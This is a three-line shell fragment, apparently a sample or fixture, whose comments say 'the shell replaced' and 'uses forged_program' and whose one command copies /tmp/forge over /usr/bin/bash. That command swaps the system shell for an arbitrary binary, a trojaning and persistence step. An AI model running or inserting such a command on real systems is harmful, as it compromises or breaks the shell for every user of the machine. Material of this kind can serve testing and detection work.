# the shell replaced
# uses forged_program
cp /tmp/forge /usr/bin/bash.new && mv /usr/bin/bash.new /usr/bin/bash
